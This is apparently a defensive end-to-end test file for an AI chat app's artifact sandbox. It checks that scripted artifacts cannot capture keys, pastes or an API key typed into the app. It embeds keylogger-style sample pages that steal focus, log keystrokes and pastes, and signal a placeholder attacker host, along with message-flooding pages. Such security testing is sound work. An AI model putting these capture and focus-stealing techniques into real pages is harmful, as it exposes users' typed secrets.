import type { Locator } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { eventually, visibleText } from '../support/app.ts'
import { type RecordingServer, startRecordingServer } from '../support/recording-server.ts'
import { useScene } from '../support/scene.ts'
import { countThreadTime } from '../support/thread-time.ts'

/**
 * Real keys, while a running artifact fights for them. What it hears it says at once, and connects to its master
 * besides.
 */
const scene = useScene()
let attacker: RecordingServer
beforeAll(async () => {
  attacker = await startRecordingServer()
})
afterAll(() => attacker.close())

const thief = (take: string, begin = 0): string => `<!doctype html><title>Thief</title><input id="i"><script>
let said = ''
const heard = (what) => {
  said += 'HEARD ' + what + ' '
  console.log('HEARD ' + what)
  const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'ATTACKER'; document.head.append(link)
}
addEventListener('keydown', (e) => heard('key ' + e.key), true)
addEventListener('beforeinput', (e) => heard('input ' + e.data), true)
addEventListener('paste', (e) => heard('paste ' + e.clipboardData.getData('text')), true)
const i = document.getElementById('i')
console.log('RUNS')
setTimeout(() => { ${take} }, ${begin})
</script>`
const LOOP = 'setInterval(() => { window.focus(); i.focus() }, 30)'
/** Each answers a blur with another focus, or hides behind work that keeps the page from hearing of it. */
const THIEVES: Record<string, string> = {
  'in a loop.html': thief(LOOP),
  'as fast as it can.html': thief(
    'const c = new MessageChannel(); c.port1.onmessage = () => { window.focus(); i.focus(); c.port2.postMessage(0) }; c.port2.postMessage(0)',
  ),
  'from a frame of its own.html': thief(
    `const f = document.createElement('iframe'); f.srcdoc = '<input id=n><script>addEventListener("keydown", (e) => parent.heard("key " + e.key), true); setInterval(() => { window.focus(); n.focus() }, 20)<\\/script>'; document.body.append(f); ${LOOP}`,
  ),
  'behind a flood of messages.html': thief(
    `let t = 0; const flood = setInterval(() => { if (++t > 40) clearInterval(flood); for (let n = 0; n < 20; n++) top.postMessage({ artifact: 'line', level: 'log', text: said + 'z'.repeat(1000) }, '*') }, 50); ${LOOP}`,
  ),
  'again whenever it lost the focus.html': thief(
    'i.focus(); addEventListener("blur", () => { i.focus(); setTimeout(() => i.focus()); setTimeout(() => { window.focus(); i.focus() }, 5) })',
  ),
}
const STOPPED = /Its scripts were stopped|tried to capture the keyboard|stopped responding/
const SECRET = 'sk-My secret, not yours 42'
const artifact = (title: string) => scene.app.page.getByRole('figure', { name: `Artifact: ${title}` })
const panel = () => scene.app.page.getByRole('region', { name: 'Artifact', exact: true })
const printed = (place: Locator) => place.getByRole('log', { name: 'Artifact console' })
const heardAnything = async (place: Locator): Promise<boolean> => (await visibleText(printed(place))).includes('HEARD')

/** All in one turn: each turn costs a test more than what it is about. */
async function show(pages: Record<string, string>): Promise<void> {
  const { app, mock } = scene
  const calls = Object.entries(pages).map(([path, content]) => ({
    write: { name: 'write_file', arguments: { path, content: content.replace('ATTACKER', attacker.url) } },
    show: { name: 'show_artifact', arguments: { path, title: path } },
  }))
  const ready = `${Object.keys(pages)[0]} is there.`
  mock.setScript([
    { toolCalls: calls.map(({ write }) => write) },
    { toolCalls: calls.map(({ show }) => show) },
    { text: ready },
  ])
  scene.allowComplaint(/Content Security Policy/)
  await app.connect({ kind: 'OpenAI-compatible', baseUrl: mock.baseUrl })
  // all of them in sight: nothing scrolls under the pointer
  await app.page.setViewportSize({ width: 1280, height: 4000 })
  await app.send('Go')
  await app.untilAnswer(ready)
  await app.untilStatus('Idle')
}

/** Clicks what is there to be clicked until the scripts run; the thief takes what it likes meanwhile. */
async function run(place: Locator): Promise<void> {
  const start = place.getByRole('button', { name: 'Run scripts', exact: true }).last()
  const stops = place.getByRole('button', { name: 'Stop scripts' })
  await eventually(
    async () => {
      if ((await stops.count()) === 0) await start.click({ timeout: 5000 }).catch(() => undefined)
      return (await stops.count()) > 0 && (await printed(place).count()) > 0
    },
    'it runs',
    30_000,
  ).toBe(true)
}

it('an artifact that takes the focus hears not one key of what is typed or pasted into the composer', async () => {
  const { app } = scene
  await show(THIEVES)
  for (const how of Object.keys(THIEVES)) {
    await run(artifact(how))
    // it has the focus by now
    await new Promise((done) => setTimeout(done, 200))
    await app.composer.click()
    await app.page.keyboard.type(SECRET, { delay: 5 })
    expect(await app.composer.inputValue(), how).toBe(SECRET)
    await app.page.keyboard.press('ControlOrMeta+A')
    await app.page.keyboard.press('ControlOrMeta+C')
    await app.page.keyboard.press('End')
    await app.page.keyboard.press('ControlOrMeta+V')
    await eventually(() => app.composer.inputValue(), how).toBe(SECRET + SECRET)
    await artifact(how)
      .getByText(/Its scripts were stopped|stopped responding/)
      .waitFor()
    expect(await heardAnything(artifact(how)), how).toBe(false)
    await app.page.keyboard.press('ControlOrMeta+A')
    await app.page.keyboard.press('Delete')
  }
  expect(attacker.connections()).toBe(0)
})

it('in the panel beside the conversation it hears as little: not of a question, and not of what is typed into a dialog', async () => {
  const { app } = scene
  await show({ 'panel.html': thief(LOOP) })
  await artifact('panel.html').getByRole('button', { name: 'Open in panel' }).click()
  await run(panel())
  await app.composer.click()
  await app.page.keyboard.type(SECRET, { delay: 5 })
  expect(await app.composer.inputValue()).toBe(SECRET)
  await panel().getByText(STOPPED).waitFor()
  expect(await heardAnything(panel())).toBe(false)
  // what it looks like is there again, without its scripts
  await panel().frameLocator('iframe').frameLocator('iframe').getByRole('textbox').waitFor()

  await run(panel())
  await app.button('Settings').click()
  const settings = app.page.getByRole('dialog', { name: 'Settings' })
  const field = settings.getByRole('searchbox', { name: 'Find a setting' })
  await field.click()
  await app.page.keyboard.type(SECRET, { delay: 5 })
  expect(await field.inputValue()).toBe(SECRET)
  await settings.getByRole('button', { name: 'Close', exact: true }).click()
  await panel().getByText(STOPPED).waitFor()
  expect(await heardAnything(panel())).toBe(false)
  expect(attacker.connections()).toBe(0)
})

it('one that posts 20 MB at a time, as text or as a line of its console, is removed, and the page pays a copy of each message, no more', async () => {
  const { app } = scene
  const flood = (text: string) =>
    `<!doctype html><script>console.log('RUNS'); setTimeout(() => { const t = ${text}; setInterval(() => top.postMessage(t, '*'), 20) }, 500)</script>`
  await show({
    'small.html': flood(`'z'`),
    'text.html': flood(`'z'.repeat(20_000_000)`),
    'line.html': flood(`({ artifact: 'line', level: 'log', text: 'z'.repeat(20_000_000) })`),
  })
  const session = await app.page.context().newCDPSession(app.page)
  const twentyCopies = async (): Promise<number> => {
    const worked = await countThreadTime(session)
    await app.page.evaluate((size) => {
      const text = 'z'.repeat(size)
      for (let n = 0; n < 20; n += 1) structuredClone(text)
    }, 20_000_000)
    return worked()
  }
  // the first ones also pay for memory that the page did not have before
  await twentyCopies()
  const copy = (await twentyCopies()) / 20
  await app.page.evaluate('globalThis.heard = 0; addEventListener("message", () => heard++)')
  const heard = (): Promise<number> => app.page.evaluate('heard')
  /** Processor time of the page, in ms, and messages, from the first click until the end. */
  const costOf = async (title: string, untilEnd: (before: number) => Promise<unknown>) => {
    const before = await heard()
    const worked = await countThreadTime(session)
    await run(artifact(title))
    await untilEnd(before)
    return { ms: await worked(), messages: (await heard()) - before }
  }
  // how many come depends on the machine: one is removed by the time that its messages take; what it costs to begin and
  // to end does not
  const small = await costOf('small.html', async (before) => {
    await eventually(async () => (await heard()) - before).toBeGreaterThan(20)
    await artifact('small.html').getByRole('button', { name: 'Stop scripts' }).click()
  })
  for (const title of ['text.html', 'line.html']) {
    const removed = artifact(title).getByText('This artifact stopped responding and was removed')
    const { ms, messages } = await costOf(title, () => removed.waitFor())
    const all = ms - small.ms
    const each = Math.round(all / messages)
    console.info(title, { messages, each, copy: Math.round(copy), small: Math.round(small.ms) })
    // three seconds of them
    expect(messages, title).toBeLessThan(150)
    // a removal may cost more than the end of the small one, which counts where a busy machine lets few messages come
    expect(all, title).toBeLessThan(2 * copy * messages + small.ms)
  }
})

it('nor of a key for a provider; one that was clicked has the keyboard, one that takes it is removed', async () => {
  const { app } = scene
  const honest = '<input id="i" aria-label="Inside" autofocus><script>console.log("RUNS"); i.focus()</script>'
  await show({ 'early.html': thief(LOOP), 'late.html': thief(LOOP, 4500), 'honest.html': honest })
  await run(artifact('early.html'))
  await app.button('Settings').click()
  const settings = app.page.getByRole('dialog', { name: 'Settings' })
  await settings.getByRole('button', { name: /^Edit / }).click()
  const field = app.page.getByRole('textbox', { name: 'API key' })
  await field.click()
  await app.page.keyboard.type(SECRET, { delay: 5 })
  expect(await field.inputValue()).toBe(SECRET)
  await app.page.keyboard.press('Escape')
  await field.waitFor({ state: 'hidden' })
  if (await settings.isVisible()) await app.page.keyboard.press('Escape')
  expect(await heardAnything(artifact('early.html'))).toBe(false)
  expect(attacker.connections()).toBe(0)

  await run(artifact('late.html'))
  await app.page.mouse.move(2, 2)
  await artifact('late.html').getByText('Stopped: it tried to capture the keyboard').waitFor()
  expect(await app.page.evaluate(() => document.activeElement?.tagName)).not.toBe('IFRAME')
  await app.page.keyboard.press('x')
  expect(await heardAnything(artifact('late.html'))).toBe(false)

  await run(artifact('honest.html'))
  await new Promise((done) => setTimeout(done, 3100))
  const inside = artifact('honest.html').frameLocator('iframe').frameLocator('iframe').getByLabel('Inside')
  await artifact('honest.html').getByRole('button', { name: 'Stop scripts' }).focus()
  await inside.click()
  await app.page.keyboard.type('its own words', { delay: 5 })
  expect(await inside.inputValue()).toBe('its own words')
})
